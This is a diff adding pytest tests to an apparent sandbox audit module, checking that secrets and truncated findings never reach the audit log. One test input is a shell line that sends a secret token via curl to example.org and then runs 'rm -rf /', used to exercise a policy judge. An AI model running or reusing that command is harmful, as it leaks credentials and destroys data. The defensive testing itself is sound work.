@@ -23,6 +23,7 @@ from sandbox_kernel.audit.proof import is_code_of
 from sandbox_kernel.audit.table import audit_directory
 from sandbox_kernel.errors import AuditUnavailable
 from sandbox_kernel.isolation.base import SandboxFacts
+from sandbox_kernel.policy.judge import Judge
 from sandbox_kernel.policy.load import load_policy
 from sandbox_kernel.relay.cells import Request, RunningCell
 from sandbox_kernel.relay.wire import Author, decode_object
@@ -164,6 +165,38 @@ def recorded(home: Path, cell: RunningCell, **changes: Any) -> dict[str, Any]:
     log.ended("shutdown")
     intent, _ = records(audit_directory(home) / "log.db")
     return decode_object(intent.body)
+
+
+def test_the_beginning_of_a_secret_that_was_cut_off_is_not_stored(tmp_path: Path) -> None:
+    secret = "AKIA" + "ABCDEFGH12345678"
+    code = "#" * (MAX_CODE_CHARACTERS - 8) + f" {secret} and more"
+    said = recorded(tmp_path, a_cell(code))
+    assert "AKIA" not in said["code"]
+    assert len(said["code"]) > MAX_CODE_CHARACTERS - 100
+
+
+def test_what_a_finding_is_about_tells_no_part_of_a_secret(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It is cut short before anybody looks for secrets in it."""
+    secret = "correct-horse-battery-staple"
+    monkeypatch.setenv("SERVICE_TOKEN", secret)
+    cell = a_cell(f"!curl -H 'X: {'y' * 60} {secret}' http://example.org; rm -rf /")
+    cell.verdict = Judge(load_policy("strict").code).judge(cell.request.code)
+    said = recorded(tmp_path, cell)
+    assert any(each.about.endswith("…") for each in cell.verdict.findings)  # else it shows nothing
+    assert said["findings"]
+    assert "correct" not in str(said)
+    assert "rm" in str(said["findings"])
+
+
+def test_a_sandbox_that_differs_from_the_one_it_replaces_is_recorded(tmp_path: Path) -> None:
+    log = log_of(tmp_path)
+    first = SandboxFacts("container", "docker", "none", "/work", image="sha256:1")
+    for facts in (first, first, first._replace(image="sha256:2")):
+        log.started(facts, {})
+    log.ended("shutdown")
+    assert words(tmp_path) == ["container", "sandbox_started", "shutdown"]
 
 
 @pytest.mark.parametrize("kept", ["text", "hash"])
